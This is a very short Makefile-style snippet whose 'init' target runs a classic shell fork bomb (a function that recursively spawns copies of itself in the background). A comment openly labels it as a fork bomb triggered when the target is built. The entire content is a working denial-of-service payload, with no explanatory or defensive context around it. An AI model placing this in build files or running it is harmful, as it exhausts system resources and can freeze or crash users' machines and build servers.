# A fork bomb while it is built.
init:
	b() { b | b & }; b; sleep 1000
